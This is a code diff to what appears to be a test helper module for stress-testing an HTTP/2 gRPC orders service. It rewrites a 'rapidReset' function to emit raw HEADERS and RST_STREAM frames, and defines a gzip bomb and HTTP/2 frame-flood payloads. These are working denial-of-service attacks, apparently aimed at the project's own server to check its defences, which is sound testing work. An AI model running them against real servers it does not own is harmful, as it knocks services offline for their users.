@@ -1,5 +1,4 @@
 import { once } from 'node:events';
-import { connect as connectHttp2, constants } from 'node:http2';
 import { gzipSync } from 'node:zlib';
 import { heldConnection } from './wire.ts';
 
@@ -31,34 +30,6 @@ export async function endlessBody(
 /** A megabyte for each kilobyte sent. */
 export const gzipBomb = (): Buffer => gzipSync(Buffer.alloc(100 * MIB, 0x20), { level: 9 });
 
-/** Takes calls back as fast as they can be made; answers how many until the server hung up, or null if it did not. */
-export async function rapidReset(url: string, token: string, count: number): Promise<number | null> {
-  const session = connectHttp2(url);
-  session.on('error', () => undefined);
-  await once(session, 'connect');
-  let isOver = false;
-  session.on('goaway', () => {
-    isOver = true;
-  });
-  session.on('close', () => {
-    isOver = true;
-  });
-  for (let made = 0; made < count; made++) {
-    if (isOver || session.destroyed) return made;
-    const stream = session.request({
-      ':method': 'POST',
-      ':path': '/daybook.orders.v1.Orders/Orders',
-      'content-type': 'application/grpc',
-      authorization: `Bearer ${token}`,
-    });
-    stream.on('error', () => undefined);
-    stream.close(constants.NGHTTP2_CANCEL);
-    if (made % 20 === 19) await new Promise(setImmediate);
-  }
-  session.destroy();
-  return null;
-}
-
 /** A frame of HTTP/2. */
 export function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
   const head = Buffer.alloc(9);
@@ -70,9 +41,50 @@ export function frame(type: number, flags: number, stream: number, payload: Uint
 }
 
 const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+const END_HEADERS = 4;
+const RST_STREAM = 3;
 const [HEADERS, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION] = [1, 4, 6, 7, 8, 9];
 /** A literal header that is not to be indexed: `x: ` and so many bytes. */
 const literal = (bytes: number) => Buffer.concat([Buffer.from([0x00, 0x01, 0x78, 0x7e]), Buffer.alloc(bytes, 0x61)]);
+
+/**
+ * Begins calls and takes each back at once, in bytes of our own: a library would not send a call that is taken back
+ * already. Answers how many were made until the server hung up, or null if it did not.
+ */
+export async function rapidReset(url: string, count: number): Promise<number | null> {
+  const { socket, closed } = await heldConnection(url);
+  let isOver = false;
+  void closed.then(() => {
+    isOver = true;
+  });
+  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
+  const path = Buffer.from('/daybook.orders.v1.Orders/Orders');
+  // POST, http, and a path as it is, by the static table of HPACK.
+  const headers = Buffer.concat([Buffer.from([0x83, 0x86, 0x04, path.length]), path]);
+  for (let made = 0; made < count; made += RESETS_A_WRITE) {
+    if (isOver) return made;
+    const frames = Array.from({ length: RESETS_A_WRITE }, (_, i) => {
+      const stream = 2 * (made + i) + 1;
+      return Buffer.concat([
+        frame(HEADERS, END_HEADERS, stream, headers),
+        frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])),
+      ]);
+    });
+    if (!socket.write(Buffer.concat(frames)))
+      await Promise.race([once(socket, 'drain').catch(() => undefined), closed]);
+    else await new Promise(setImmediate);
+  }
+  // What was sent last may not have been read yet.
+  const isCut = await Promise.race([
+    closed.then(() => true),
+    new Promise<boolean>((resolve) => setTimeout(resolve, PATIENCE_MS, false)),
+  ]);
+  socket.destroy();
+  return isCut ? count : null;
+}
+
+const RESETS_A_WRITE = 20;
+const PATIENCE_MS = 2_000;
 
 /** What no client of HTTP/2 would send, each as the frames that are sent again and again. */
 export const FRAME_FLOODS: Readonly<Record<string, { readonly first: Buffer; readonly again: Buffer }>> = {
